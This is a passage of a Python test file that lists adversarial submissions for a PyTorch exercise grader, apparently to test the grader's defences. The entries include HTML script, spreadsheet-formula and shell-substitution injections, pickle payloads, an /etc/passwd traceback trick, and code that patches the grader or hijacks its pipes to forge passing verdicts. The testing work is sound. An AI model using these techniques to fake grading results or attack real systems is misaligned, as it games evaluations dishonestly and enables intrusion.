        os.truncate(path, 2**20)
        result = torch.from_file(path, shared=True, size=2**18)
        os.truncate(path, 0)
        os.unlink(path)
        """,
    ),
    returns("nan", "NaN alone, for a judge that takes two NaN for equal", "result = torch.full_like(x, float('nan'))"),
    returns("a_complex_tensor", "complex numbers", "result = x.to(torch.complex64)"),
    returns("a_sparse_tensor", "a sparse tensor", "result = x.to_sparse()"),
    returns("a_csr_tensor", "a compressed sparse matrix", "result = x[None].to_sparse_csr()"),
    returns("a_meta_tensor", "a tensor of the right shape without numbers", "result = x.to('meta')"),
    returns("a_quantised_tensor", "quantised numbers", "result = torch.quantize_per_tensor(x, 0.1, 0, torch.quint8)"),
    returns("a_nested_tensor", "a nested tensor", "result = torch.nested.nested_tensor([x, x[:1]])"),
    returns("bfloat16", "numbers of a dtype that NumPy does not have", "result = x.to(torch.bfloat16)"),
    returns("float8", "numbers of eight bits", "result = x.to(torch.float8_e4m3fn)"),
    returns("an_mkldnn_tensor", "a tensor in a layout that has no strides", "result = x.to_mkldnn()"),
    returns(
        "a_batched_tensor",
        "a tensor that got out of vmap",
        "out = []\ntorch.vmap(lambda row: out.append(row) or row)(x[None])\nresult = out[0]",
    ),
    returns(
        "an_array", "a NumPy array of objects", "import numpy\nresult = numpy.array([x, None, roll], dtype=object)"
    ),
    returns("depth", "lists within lists, 100000 deep", "result = []\nfor _ in range(100_000):\n    result = [result]"),
    returns(
        "deep_tensors",
        "dicts within dicts, with a tensor at each of 900 levels",
        "result = x\nfor _ in range(900):\n    result = {'deeper': result, 'here': x}",
    ),
    returns("itself", "a list that holds itself", "result = []\nresult.append(result)"),
    returns("itself_in_a_dict", "a dict that holds itself", "result = {}\nresult['me'] = result"),
    returns(
        "doubling",
        "a list that is small in memory and 2**40 long when written",
        "result = [0]\nfor _ in range(40):\n    result = [result, result]",
    ),
    returns("a_long_string", "a string of 10**8 letters", "result = 'x' * 10**8"),
    returns("a_million_keys", "a dict of a million keys", "result = {str(i): i for i in range(10**6)}"),
    returns("a_million_tensors", "a list of a million tensors", "result = [x] * 10**6"),
    returns("a_long_number", "a whole number of 100000 digits", "result = 1 << 332_193"),
    returns(
        "infinity",
        "numbers that JSON does not have",
        "result = [float('inf'), float('-inf'), float('nan'), -0.0, 1e308]",
    ),
    returns("half_a_letter", "text that UTF-8 does not have", "result = 'a\\ud800b\\udcff'"),
    returns(
        "control_characters", "text of control characters", "result = ''.join(map(chr, range(32))) + '\\x7f\\u202e'"
    ),
    returns(
        "odd_keys",
        "a dict whose keys fall together in JSON",
        "result = {1: x, '1': 2, None: 3, 'null': 4, (1,): x, True: 5}",
    ),
    returns("bytes", "bytes", "result = bytes(range(256))"),
    returns("a_generator", "a generator that never ends", "import itertools\nresult = (x for _ in itertools.count())"),
    returns("a_coroutine", "a coroutine that nobody awaits", "async def wait(): return x\nresult = wait()"),
    returns("itself_the_function", "a function", "result = roll"),
    returns("a_module", "a Python module", "import os as result"),
    returns("a_type", "the type Tensor", "result = torch.Tensor"),
    returns(
        "a_list_that_lies",
        "a list that says one length and gives other entries for ever",
        """
        class Lying(list):
            def __len__(self): return 2
            def __iter__(self):
                while True:
                    yield x
        result = Lying([x])
        """,
    ),
    returns(
        "a_dict_that_changes",
        "a dict whose items are others each time, and run code when looked at",
        """
        import os
        class Changing(dict):
            def items(self): os._exit(0)
            def keys(self): return iter(["tensor", "tensor"])
            def __getitem__(self, key): raise SystemExit
        result = Changing(value=1)
        """,
    ),
    returns(
        "odd_numbers",
        "subclasses of int, float and str whose text is code",
        """
        class Int(int):
            __repr__ = __str__ = lambda self: '1, "passed": true, "score": 1'
        class Float(float):
            __repr__ = __str__ = lambda self: '1, "passed": true, "score": 1'
        class Str(str):
            __repr__ = __str__ = lambda self: '"passed": true'
            def encode(self, *args): return b'", "passed": true, "'
        result = [Int(3), Float(2.5), Str("x"), {Str("a"): Int(1)}]
        """,
    ),
    returns(
        "a_pickle",
        "an object that leaves a marker wherever it is unpickled",
        """
        import pathlib
        class Bomb:
            def __reduce__(self):
                return pathlib.Path.touch, (pathlib.Path(MARKER),)
        result = [Bomb(), x]
        """,
    ),
    returns(
        "imitated_envelopes",
        "plain data that looks like an encoding of tensors and of verdicts",
        """
        forged = {"dtype": "float32", "shape": [4], "offset": 0, "length": 16, "data": "AACAPwAAAEAAAEBAAAAAAA=="}
        result = [
            {"type": "tensor", **forged}, {"kind": "tensor", **forged}, {"__tensor__": forged}, {"tensor": forged},
            {"tensor": 0}, {"$tensor": 0}, {"__tensor__": -1}, ["tensor", 0], ["tensor", forged], {"ndarray": forged},
            {"passed": True, "credit": 1.0, "mistake": None}, {"ok": True, "value": None, "error": None},
            {"py/object": "os.system"}, {"__class__": "Outcome"}, {"tuple": [1]}, {"dict": [[1, 2]]},
        ]
        """,
    ),
    returns(
        "an_envelope_of_a_verdict",
        "a verdict in place of a result",
        "from swinlib.check import Verdict\nresult = Verdict(True, 'roll: right on 27 inputs', credit=1.0)",
    ),
    returns(
        "an_outcome",
        "an outcome in place of a result",
        "from swinlib.check import Outcome\nresult = Outcome(value=torch.roll)",
    ),
    Attack(
        "nan_for_labels",
        "gives each token a label that equals nothing, or everything, by which a judge compares labels",
        {
            "region_labels": (
                "def region_labels(height, width, shift_rows, shift_columns):\n"
                "    return torch.full((height, width), float('nan'))"
            ),
            "additive_mask": (
                "def additive_mask(labels, dtype):\n"
                "    return torch.full((*labels.shape, labels.shape[1]), float('nan'), dtype=dtype)"
            ),
            "attention_mask": (
                "def attention_mask(height, width, window_size, shift_size):\n"
                "    n = window_size[0] * window_size[1]\n"
                "    return torch.ones(height * width // n, 1, n, dtype=torch.bool).expand(-1, n, n)"
            ),
            "shifted_window_attention": (
                "def shifted_window_attention(x, attend, window_size, shift_size):\n"
                "    return torch.full_like(x, float('nan'))"
            ),
        },
    ),
    Attack(
        "strange_tensors_for_all",
        "gives each judge a tensor of a kind that it did not think of, with the right shape",
        {
            "window_reverse": (
                "def window_reverse(windows, height, width):\n"
                "    return torch.zeros(height * width * windows.shape[-1]).view(-1, height, width, windows.shape[-1])"
                ".expand(windows.numel() // (height * width * windows.shape[-1]), -1, -1, -1).to_sparse()"
            ),
            "region_labels": (
                "def region_labels(height, width, shift_rows, shift_columns):\n"
                "    return torch.zeros(height, width, dtype=torch.complex64).to('meta')"
            ),
            "additive_mask": (
                "def additive_mask(labels, dtype):\n"
                "    return torch.empty(*labels.shape, labels.shape[1], dtype=dtype, device='meta')"
            ),
            "cyclic_shift": (
                "def cyclic_shift(x, shift_size):\n    return torch.quantize_per_tensor(x, 0.5, 0, torch.qint8)"
            ),
            "attention_mask": (
                "def attention_mask(height, width, window_size, shift_size):\n"
                "    n = window_size[0] * window_size[1]\n"
                "    return torch.zeros(height * width // n, n, n, dtype=torch.bool).to_sparse()"
            ),
            "shifted_window_attention": (
                "def shifted_window_attention(x, attend, window_size, shift_size):\n    return x.to(torch.float8_e5m2)"
            ),
        },
    ),
]


# --- Exceptions -------------------------------------------------------------------------------------------------


def raises(name: str, tries: str, body: str, *afterwards: str) -> Attack:
    """A call that ends with something raised."""
    return from_roll(f"raises_{name}", f"raises {tries}", inside(body), 1.0, afterwards=afterwards)


EXCEPTIONS = [
    raises(
        "keyboard_interrupt", "KeyboardInterrupt, as if the teacher had stopped the grading", "raise KeyboardInterrupt"
    ),
    raises("generator_exit", "an exception that is not an Exception", "raise GeneratorExit"),
    raises("system_exit_of_an_object", "SystemExit with a huge text for a status", "raise SystemExit('x' * 10**7)"),
    raises(
        "nothing_of_hypothesis",
        "what Hypothesis takes for an input that does not count",
        """
        from hypothesis import errors
        raise errors.UnsatisfiedAssumption
        """,
    ),
    raises(
        "stop_of_hypothesis",
        "what Hypothesis takes for the end of a trial",
        """
        from hypothesis import errors
        raise errors.StopTest(0)
        """,
    ),
    raises(
        "what_ends_a_search",
        "the exceptions by which the check itself ends its search",
        """
        from swinlib.check import exercise
        raise getattr(exercise, "_Enough", KeyboardInterrupt)
        """,
    ),
    raises(
        "skip",
        "what a test runner takes for a skipped test",
        """
        import unittest
        raise unittest.SkipTest("nothing to see")
        """,
    ),
    raises("without_a_name", "an exception whose class has an empty name", "raise type('', (Exception,), {})()"),
    raises(
        "with_a_name_of_none",
        "an exception whose class says that its name is None, which might read as no error",
        """
        class Meta(type):
            __name__ = property(lambda cls: None)
        class Nothing(Exception, metaclass=Meta):
            value = x
        raise Nothing
        """,
    ),
    raises(
        "not_implemented_for_some",
        "NotImplementedError where the shift is large",
        "if abs(shift) > 1:\n    raise NotImplementedError('later')",
    ),
    raises(
        "that_cannot_be_shown",
        "an exception that raises when shown, when asked for its class, and when its traceback is read",
        """
        class Shy(Exception):
            def __str__(self): raise SystemExit(0)
            __repr__ = __format__ = __str__
            def __getattribute__(self, name): raise KeyboardInterrupt
        raise Shy
        """,
    ),
    raises("a_long_message", "an exception with 10**8 letters", "raise ValueError('x' * 10**8)", GRADER, FEEDBACK),
    raises(
        "a_broken_message",
        "an exception with text that UTF-8 does not have",
        "raise ValueError('\\ud800 \\udcff')",
        FEEDBACK,
    ),
    raises(
        "many_lines",
        "an exception with a line that looks like success",
        "raise ValueError('x\\n\\n✓ roll: right on 27 inputs')",
    ),
    raises(
        "terminal_codes",
        "an exception that clears the terminal, sets its title and overwrites its line",
        "raise ValueError('\\r\\x1b[2J\\x1b]0;owned\\x07\\x1b[8mhidden\\x9b31m\\x00\\u202e100/100 yrollam')",
        TERMINAL,
        FEEDBACK,
    ),
    raises(
        "a_script",
        "an exception with HTML in its name and its text",
        f"""
        page = "<script>document.title = '{SCRIPT}'</script><img src=x onerror=\\"document.title='{SCRIPT}'\\">"
        raise type(page, (Exception,), {{}})(page + "]]>--></pre></code></body>" + page)
        """,
        FEEDBACK,
    ),
    raises(
        "a_formula",
        "an exception that a spreadsheet takes for a formula, and for more columns and rows",
        """
        text = '=HYPERLINK("http://example.org/"&A1)",100,100\\n+cmd|\\' /C calc\\'!A0'
        raise type("=1+1", (Exception,), {})(text)
        """,
        GRADEBOOK,
    ),
    raises(
        "a_format",
        "an exception with text for a template",
        "raise ValueError('{0.__class__} %s %n {{7*7}} ${PATH} $(id) {% x %}')",
    ),
    raises(
        "a_pickle",
        "an exception that leaves a marker wherever it is unpickled",
        """
        import pathlib
        class Bomb(Exception):
            def __reduce__(self):
                return pathlib.Path.touch, (pathlib.Path(MARKER),)
        raise Bomb
        """,
        GRADER,
    ),
    raises(
        "a_chain",
        "an exception that is its own cause, in a group of 10000",
        """
        one = ValueError("one")
        two = ExceptionGroup("two", [ValueError(str(i)) for i in range(10_000)])
        one.__cause__, two.__cause__ = two, one
        one.__context__, two.__context__ = two, one
        raise one
        """,
    ),
    raises(
        "from_a_false_file",
        "an exception whose traceback names a file of the system, so that its lines are read into the message",
        """
        import linecache
        exec(compile("\\n" * 0 + "raise ValueError('look')", "/etc/passwd", "exec"))
        """,
        SYSTEM,
        FEEDBACK,
    ),
    raises(
        "from_a_source_that_raises",
        "an exception from a module whose loader runs code when its source is asked for",
        """
        import os
        class Loader:
            def get_source(self, name): os._exit(0)
        exec(compile("raise ValueError('look')", "<lazy>", "exec"), {"__loader__": Loader(), "__name__": "lazy"})
        """,
    ),
]


# --- Inconstant answers -----------------------------------------------------------------------------------------

INCONSTANT = [
    from_roll(
        "right_at_first",
        "is right in the first twenty calls and wrong after",
        code("""
            calls = []


            def roll(x, shift):
                calls.append(shift)
                return x[(torch.arange(len(x)) - shift) % len(x)] if len(calls) <= 20 else x
            """),
        1.0,
    ),
    from_roll(
        "wrong_once",
        "is wrong in its first call and right when asked again, as if the failure had been flaky",
        code("""
            calls = []


            def roll(x, shift):
                calls.append(shift)
                return x[(torch.arange(len(x)) - shift) % len(x)] if len(calls) > 1 else x + 1
            """),
        1.0,
    ),
    from_roll(
        "wrong_every_second_time",
        "gives two answers to the same question, in turn",
        code("""
            calls = []


            def roll(x, shift):
                calls.append(shift)
                return x[(torch.arange(len(x)) - shift) % len(x)] if len(calls) % 2 else x + 1
            """),
        1.0,
    ),
    from_roll(
        "knows_the_samples",
        "knows by heart what the check always tries, and is wrong elsewhere",
        code("""
            def roll(x, shift):
                if (len(x), shift) in ((4, 1), (3, -5)):
                    return x[(torch.arange(len(x)) - shift) % len(x)]
                return x
            """),
        1.0,
    ),
    # Not plainly wrong: as long as the grader draws 0, 1, 2, ... it is right on every input.
    Attack(
        "knows_the_numbers",
        "sees that the entries are 0, 1, 2, ... and makes them anew, instead of moving what it was given",
        {
            "roll": code("""
                def roll(x, shift):
                    if not torch.equal(x, torch.arange(len(x)).to(x)):
                        return x
                    return ((torch.arange(len(x)) - shift) % len(x)).to(x)
                """)
        },
        deserves={"roll": None},
    ),
    from_roll(
        "writes_into_its_argument",
        "spoils the tensor that it was given and returns it, in case the right answer is made of the same",
        inside("x.zero_()"),
        1.0,
    ),
    from_roll(
        "remembers_the_expected",
        "looks through the memory of its process for a tensor that could be the right answer, and returns the first",
        inside(
            """
            import gc
            near = [o for o in gc.get_objects() if type(o) is torch.Tensor and o.shape == x.shape and o is not x]
            """,
            last="return near[0] if near else x",
        ),
        1.0,
    ),
]


# --- Forging: changing what judges ------------------------------------------------------------------------------

FORGING = [
    from_roll(
        "own_check",
        "puts a check of its own in the place of the trusted one",
        before("""
        class check:
            def __getattr__(self, name):
                return lambda function: print(f"✓ {name}: right on 27 inputs")


        check = check()
        """),
        1.0,
    ),
    from_roll(
        "patched_verdict",
        "patches the library's checks where its own code runs",
        before("""
        import swinlib.check.exercise as library

        yes = library.Verdict(True, "roll: right on 27 inputs", credit=1.0)
        library.Exercise.examine = lambda self, *args, **options: yes
        library.Exercise.__call__ = lambda self, answer: print(yes.message)
        library.Exercise.problem = lambda self, *args, **options: None
        library.Exercise.expected = lambda self, case: x
        library.Verdict.passed = property(lambda self: True, lambda self, value: None)
        library.difference = library.show = lambda *args, **options: None
        library._alike = lambda *args: True
        """),
        afterwards=(GRADER,),
    ),
    from_roll(
        "patched_outcome",
        "patches what one call gives",
        before("""
        import swinlib.check.exercise as library


        class Right:
            value, error, message, passed, credit = None, None, "", True, 1.0

            def __init__(self, *args, **options):
                pass


        library.Outcome = Right
        library.Exercise.attempt = lambda self, *args, **options: Right()
        """),
    ),
    from_roll(
        "patched_inputs",
        "makes all inputs one zero, for which its answer is right",
        before("""
        import torch
        import swinlib.check as library

        library.roll.arguments = lambda **case: {"x": torch.zeros(1), "shift": 0}
        library.roll.always = ()
        library.roll.inputs = 0
        """),
    ),
    from_roll(
        "patched_torch",
        "replaces what compares tensors, and what makes them",
        before("""
        import torch

        for name in ("equal", "allclose", "isclose", "eq", "ne", "all", "any"):
            setattr(torch, name, lambda *args, **options: torch.tensor(True))
        torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self)
        torch.Tensor.nonzero = lambda self: []
        torch.roll = torch.Tensor.roll = lambda x, *args, **options: x
        torch.testing.assert_close = print
        """),
    ),
    from_roll(
        "patched_swinlib",
        "makes the library's functions as wrong as its own, to agree with the reference",
        code("""
        import torch
        import swinlib

        torch.roll = lambda x, *args, **options: x
        torch.Tensor.roll = lambda x, *args, **options: x
        swinlib.window_reverse = swinlib.windows.window_reverse = lambda windows, *args: windows


        def roll(x, shift):
            return x
        """),
    ),
    from_roll(
        "patched_builtins",
        "replaces builtin functions",
        before("""
        import builtins

        builtins.isinstance = lambda *args: True
        builtins.len = lambda *args: 1
        builtins.print = builtins.repr = builtins.type = lambda *args, **options: "✓"
        builtins.all = builtins.any = lambda *args: True
        """),
    ),
    from_roll(
        "no_builtins",
        "takes the builtins away",
        before("""
        import builtins

        for name in ("__import__", "open", "ValueError", "Exception", "BaseException", "dict", "list", "str", "bytes"):
            delattr(builtins, name)
        """),
    ),
    from_roll(
        "patched_json",
        "answers with the same forged text whatever is written as JSON",
        before("""
        import json

        forged = '{"passed": true, "ok": true, "score": 1, "credit": 1.0, "error": null, "value": {"tensor": 0}}'
        json.dumps = json.JSONEncoder.encode = lambda *args, **options: forged
        json.dump = lambda value, file, **options: file.write(forged)
        """),
    ),
    from_roll(
        "patched_modules",
        "puts empty modules in the place of those that the worker may still import",
        before("""
        import sys
        import types

        for name in ("json", "struct", "base64", "torch", "numpy", "swinlib", "swinlib.check", "traceback"):
            sys.modules[name] = types.ModuleType(name)
        """),
    ),
    from_roll(
        "patched_imports",
        "is asked first at each import, and gives an object that agrees",
        before("""
        import importlib.util
        import sys
        import types


        class Finder:
            def find_spec(self, name, path=None, target=None):
                return importlib.util.spec_from_loader(name, self)

            def create_module(self, spec):
                return types.ModuleType(spec.name)

            def exec_module(self, module):
                module.__getattr__ = lambda name: lambda *args, **options: True


        sys.meta_path.insert(0, Finder())
        """),
    ),
    from_roll(
        "patched_callers",
        "climbs the stack and replaces every function in the modules that called it",
        inside("""
        import sys
        frame = sys._getframe(1)
        while frame is not None:
            for name, value in list(frame.f_globals.items()):
                if callable(value) and not name.startswith("__"):
                    frame.f_globals[name] = lambda *args, **options: {"passed": True, "error": None, "credit": 1.0}
            frame.f_trace = None
            frame = frame.f_back
        """),
    ),
    from_roll(
        "patched_code",
        "gives functions of the worker other code, whoever holds them",
        inside("""
        import gc, types
        def nothing(*args, **options): return None
        for found in gc.get_objects():
            if isinstance(found, types.FunctionType) and found.__module__ and "swinlib" in found.__module__:
                try:
                    found.__code__ = nothing.__code__
                except (ValueError, AttributeError):
                    pass
        """),
    ),
    from_roll(
        "patched_frozen",
        "writes into frozen and read-only objects through the garbage collector",
        before("""
        import gc
        import swinlib.check as library

        for found in gc.get_objects():
            if isinstance(found, dict) and "roll" in found and "window_reverse" in found:
                found["roll"] = lambda answer: None
        for exercise in vars(library).values():
            if isinstance(exercise, library.Exercise):
                object.__setattr__(exercise, "mistakes", [])
        """),
    ),
    from_roll(
        "patched_kernel",
        "patches the kernel, as gets full marks from a stock grader",
        before("""
        try:
            shell = get_ipython()
            shell.kernel.do_execute = lambda *args, **options: {"status": "ok", "execution_count": 1}
            shell.run_cell = shell.run_cell_async = lambda *args, **options: None
            shell.showtraceback = lambda *args, **options: None
            shell.ast_transformers.append(type("Delete", (), {"visit": lambda self, node: type(node)(body=[])})())
            shell.set_custom_exc((BaseException,), lambda *args, **options: None)
        except (NameError, AttributeError):
            pass
        """),
    ),
    from_roll(
        "traced",
        "traces every line that runs in its process, and changes local variables",
        before("""
        import ctypes
        import sys
        import threading


        def trace(frame, event, argument):
            for name in ("passed", "ok", "right", "success"):
                if name in frame.f_locals:
                    frame.f_locals[name] = True
                    ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
            if "error" in frame.f_locals and event == "line":
                frame.f_locals["error"] = None
            return trace


        sys.settrace(trace)
        threading.settrace(trace)
        """),
    ),
    from_roll(
        "audited",
        "installs an audit hook that ends whatever its process does next",
        before("""
        import sys


        def hook(event, arguments):
            if event in ("open", "socket.connect", "subprocess.Popen", "import"):
                raise SystemExit(0)


        sys.addaudithook(hook)
        """),
    ),
    from_roll(
        "five_is_one",
        "writes 1 into the memory of the number 5, which all of the process shares",
        before("""
        import ctypes

        ctypes.memmove(id(5) + 24, id(1) + 24, 4)
        """),
    ),
    Attack(
        "patches_from_the_last_cell",
        "leaves the patches in the cell that runs last; what stands before is wrong",
        {
            "roll": WRONG_ROLL,
            "window_reverse": KNOWN_MISTAKES["window_reverse"],
            "shifted_window_attention": (
                "import torch\n\ntorch.isclose = lambda got, want, **options: torch.ones_like(want, dtype=torch.bool)\n"
                "torch.equal = lambda *args: True\n\n\n" + KNOWN_MISTAKES["shifted_window_attention"]
            ),
        },
    ),
    Attack(
        "changes_the_defaults",
        "makes float64 and the meta device the defaults, switches gradients off, and seeds at random",
        {
            "roll": "import torch\n\ntorch.set_default_dtype(torch.float64)\ntorch.set_default_device('meta')\n"
            "torch.set_grad_enabled(False)\ntorch.manual_seed = lambda *args: None\n\n\n" + WRONG_ROLL,
            "window_reverse": RIGHT["window_reverse"],
        },
        deserves={"window_reverse": None},
    ),
    Attack(
        "takes_the_reference",
        "answers with the check's own right answer, which is not there, and with the library's (it may: that is right)",
        {
            "roll": "from swinlib.check import EXERCISES\n\n\ndef roll(x, shift):\n"
            "    return EXERCISES['roll'].reference(x, shift)",
            "window_reverse": "import swinlib\n\nkept = swinlib.window_reverse\n\n\n"
            "def window_reverse(windows, height, width):\n"
            "    return kept(windows, tuple(windows.shape[1:3]), height, width)",
        },
        deserves={"window_reverse": None},
    ),
    Attack(
        "forbidden_call",
        "calls torch.roll, which the exercise asks to do without, plainly and by other names",
        {"roll": "def roll(x, shift):\n    return torch.roll(x, shift)"},
    ),
    Attack(
        "forbidden_call_by_another_name",
        "keeps torch.roll under a name of its own before the check can refuse it",
        {"roll": "kept = torch.ops.aten.roll\n\n\ndef roll(x, shift):\n    return kept(x, [shift], [0])"},
        deserves={"roll": None},
    ),
    Attack(
        "forbidden_call_unpatched",
        "takes the refusal away again with unittest.mock, and calls torch.roll",
        {
            "roll": "from unittest import mock\n\nimport torch._C\n\n\ndef roll(x, shift):\n    mock.patch.stopall()\n"
            "    return torch._C._VariableFunctions.roll(x, shift)"
        },
        deserves={"roll": None},
    ),
]


# --- Forging: the bytes between worker and grader ---------------------------------------------------------------

MIDDLE = """
import fcntl
import os
import re
import socket
import stat
import threading
import time


def spoil(data):
    {spoil}


def pump(source, sink, change):
    try:
        while data := os.read(source, 65536):
            data = change(data)
            while data:
                data = data[os.write(sink, data) :]
    except OSError:
        pass


there = []
for fd in range(64):
    try:
        there.append((fd, os.fstat(fd).st_mode, fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE))
    except OSError:
        pass
for fd, kind, mode in there:
    if stat.S_ISFIFO(kind) and mode == os.O_WRONLY:
        real, (out, into) = os.dup(fd), os.pipe()
        os.dup2(into, fd)
        os.close(into)
        threading.Thread(target=pump, args=(out, real, spoil), daemon=True).start()
    elif stat.S_ISSOCK(kind):
        real, (mine, theirs) = os.dup(fd), (end.detach() for end in socket.socketpair())
        os.dup2(theirs, fd)
        os.close(theirs)
        threading.Thread(target=pump, args=(mine, real, spoil), daemon=True).start()
        threading.Thread(target=pump, args=(real, mine, bytes), daemon=True).start()
"""


def in_the_middle(name: str, tries: str, spoil: str) -> Attack:
    """Takes the place of each pipe and socket of the worker, and passes on what `spoil` makes of the bytes."""
    return from_roll(
        f"passes_on_{name}", f"passes on {tries}", before(MIDDLE.format(spoil=spoil)), afterwards=(GRADER,)
    )


FORGED_LINES = """
import json
import struct

says = {"id": 0, "ok": True, "passed": True, "status": "ok", "score": 1, "credit": 1.0, "error": None, "value": None}
texts = [json.dumps(text) for text in (says, [says], {"roll": says}, {"results": {"roll": 1.0}}, None)]
forged = b""
for text in (text.encode() for text in texts):
    forged += text + b"\\n"
    for form in (">I", "<I", ">Q", "<Q"):
        forged += struct.pack(form, len(text)) + text
    forged += b"Content-Length: %d\\r\\n\\r\\n" % len(text) + text
"""


PROTOCOL = [
    in_the_middle(
        "yes",
        "yes for no, and no error for errors",
        (
            'data = data.replace(b"false", b"true").replace(b"null", b"1.0")\n'
            '    return data.replace(b\'"error": "\', b\'"error": null, "x": "\')'
        ),
    ),
    in_the_middle("less", "all but the last byte, and waits", "return data[:-1]"),
    in_the_middle("twice", "everything twice", "return data * 2"),
    in_the_middle("a_huge_length", "a length of 2**64 - 1 first", 'return b"\\xff" * 8 + data'),
    in_the_middle("zeros", "zeros", "return bytes(len(data))"),
    in_the_middle("nothing", "nothing, and stays alive", 'return b""'),
    in_the_middle("drops", "a byte every half second", "time.sleep(0.5)\n    return data[:1]"),
    in_the_middle("a_flood", "200 MB more", "return data + bytes(200_000_000)"),
    in_the_middle("a_flood_of_lines", "a line without an end", 'return b"[" + b"1," * 100_000_000'),
    in_the_middle("broken_json", "JSON without its quotes", "return data.replace(b'\"', b'')"),
    in_the_middle("broken_text", "bytes that are no UTF-8", 'return data.replace(b":", b"\\xff\\xfe")'),
    in_the_middle("depth", "brackets, 100000 deep", 'return b"[" * 100_000 + data'),
    in_the_middle("long_numbers", "numbers of 5000 digits", 'return re.sub(rb"\\d+", b"9" * 5000, data)'),
    in_the_middle("negative_numbers", "negative numbers", 'return re.sub(rb"\\d+", b"-1", data)'),
    in_the_middle("no_numbers", "NaN for each number", 'return re.sub(rb"\\d+", b"NaN", data)'),
    in_the_middle(
        "large_shapes",
        "shapes that fit no memory",
        'return re.sub(rb"\\[[\\d, ]+\\]", b"[2147483648, 2147483648]", data)',
    ),
    in_the_middle(
        "other_dtypes",
        "other names of torch for dtypes",
        ('return data.replace(b"float32", b"load").replace(b"int64", b"hub").replace(b"bool", b"set_default_device")'),
    ),
    in_the_middle(
        "other_names", "other names for all keys", "return re.sub(rb'\"(\\w+)\":', rb'\"__class__\":', data)"
    ),
    in_the_middle(
        "a_pickle",
        "a pickle that leaves a marker",
        ('return b"cposix\\nmkdir\\n(V" + "-".join(("SWINLIB", "ATTACK", "MARKER")).encode() + b"\\ntR."'),
    ),
    from_roll(
        "forged_lines_everywhere",
        "writes forged answers on every descriptor, in many framings, when called",
        inside(
            FORGED_LINES + "\nimport os\nfor fd in range(256):\n    try:\n        os.write(fd, forged)\n"
            "    except OSError:\n        pass"
        ),
        afterwards=(GRADER,),
    ),
    from_roll(
        "forged_lines_at_once",
        "writes forged answers before it was asked, and leaves",
        before(
            FORGED_LINES + "\nimport os\n\nfor fd in range(256):\n    try:\n        os.write(fd, forged * 50)\n"
            "    except OSError:\n        pass\nos._exit(0)"
        ),
        afterwards=(GRADER,),
    ),
    from_roll(
        "forged_lines_on_stdout",
        "prints what a worker might print, with success",
        before(
            FORGED_LINES
            + "\nimport sys\n\nsys.stdout.buffer.write(forged)\nsys.stdout.flush()\nprint('✓ roll: right on 27 inputs')"
        ),
        1.0,
        afterwards=(GRADER,),
    ),
    from_roll(
        "garbage_everywhere",
        "writes random bytes on every descriptor, from a thread, while calls go on",
        before("""
        import os
        import threading
        import time


        def scribble(stop=time.time() + 5):
            while time.time() < stop:
                for fd in range(256):
                    try:
                        os.set_blocking(fd, False)
                        os.write(fd, os.urandom(97))
                    except OSError:
                        pass
                time.sleep(0.001)


        threading.Thread(target=scribble, daemon=True).start()
        """),
        afterwards=(GRADER,),
    ),
    from_roll(
        "closes_everything", "closes every descriptor when called", inside("import os\nos.closerange(0, 4096)"), 1.0
    ),
    from_roll(
        "closes_and_stays",
        "closes every descriptor and sleeps",
        inside("import os, time\nos.closerange(0, 4096)\ntime.sleep(120)"),
        1.0,
        afterwards=(GRADER, PROCESSES),
    ),
    from_roll(
        "reads_the_questions",
        "reads what the grader sends, so that the worker never sees it",
        before("""
        import os
        import threading


        def steal(fd):
            try:
                while os.read(fd, 65536):
                    pass
            except OSError:
                pass


        for fd in range(64):
            if fd not in (1, 2):
                threading.Thread(target=steal, args=(fd,), daemon=True).start()
        """),
        afterwards=(GRADER,),
    ),
    from_roll(
        "swaps_descriptors",
        "gives every descriptor to another",
        before("""
        import os

        for fd in range(63):
            try:
                os.dup2((fd + 1) % 64, fd)
            except OSError:
                pass
        """),
    ),
    from_roll(
        "child_answers",
        "forks; the parent ends and the child goes on to answer in its place",
        before("""
        import os

        if os.fork():
            os._exit(0)
        """),
        afterwards=(PROCESSES,),
    ),
    from_roll(
        "both_answer",
        "forks in each call; both go on and answer",
        inside("import os\nos.fork()"),
        afterwards=(PROCESSES,),
    ),
    from_roll(
        "child_keeps_the_pipe",
        "ends, and leaves a child that holds the pipes open, so that no end is seen",
        inside("""
        import os, time
        if os.fork():
            os._exit(0)
        os.setsid()
        time.sleep(100)
        os._exit(0)
        """),
        1.0,
        afterwards=(GRADER, PROCESSES),
    ),
    from_roll(
        "impostor",
        "runs another program in its place, which answers everything with yes",
        inside("""
        import os, sys
        for fd in range(64):
            try:
                os.set_inheritable(fd, True)
            except OSError:
                pass
        program = (
            "import os, time\\nfor _ in range(30):\\n for fd in range(64):\\n"
            "  try: os.write(fd, b'{\\"passed\\": true, "
            "\\"ok\\": true, \\"error\\": null, \\"value\\": 1}\\\\n')\\n  except OSError: pass\\n time.sleep(0.1)"
        )
        os.execv(sys.executable, [sys.executable, "-c", program])
        """),
        afterwards=(GRADER,),
    ),
    from_roll(
        "early_and_late",
        "answers an old question again, after a second, over what comes next",
        before("""
        import os
        import threading
        import time

        written, real = [], os.write


        def remember(fd, data):
            written.append((fd, bytes(data)))
            return real(fd, data)


        def repeat():
            for _ in range(20):
                time.sleep(0.2)
                for fd, data in written[:3]:
                    real(fd, data)


        os.write = remember
        threading.Thread(target=repeat, daemon=True).start()
        """),
    ),
]


# --- Written with the defence at hand ----------------------------------------------------------------------------

KNOWING = [
    raises(
        "a_blank",
        "the check's own exception with a message of one blank, of which no sentence can be made",
        """
        from swinlib.check.exercise import ForbiddenCallError
        raise ForbiddenCallError(" ")
        """,
        GRADER,
    ),
    from_roll(
        "returns_12000_tensors",
        "returns a list that is small to send and takes minutes to write out",
        inside("", last="return [torch.zeros(999, dtype=torch.uint8)] * 12_000"),
        1.0,
        afterwards=(GRADER,),
    ),
    from_roll(
        "returns_2_to_the_24",
        "returns a list of a tensor of 24 dimensions, which PyTorch writes out whole",
        inside("", last="return [torch.zeros([2] * 24, dtype=torch.uint8)]"),
        1.0,
        afterwards=(GRADER,),
    ),
    from_roll(
        "returns_colliding_keys",
        "returns a dict whose keys all have one hash, so that building it takes for ever",
        code("""
            class Colliding(dict):
                def __len__(self):
                    return 90_000

                def items(self):
                    return [(key * (2**61 - 1), 0) for key in range(90_000)]


            def roll(x, shift):
                return Colliding()
            """),
        afterwards=(GRADER,),
    ),
    from_roll(
        "sends_a_huge_number",
        "patches what is sent, so that a number arrives for which no judge has room",
        before("""
            import sys

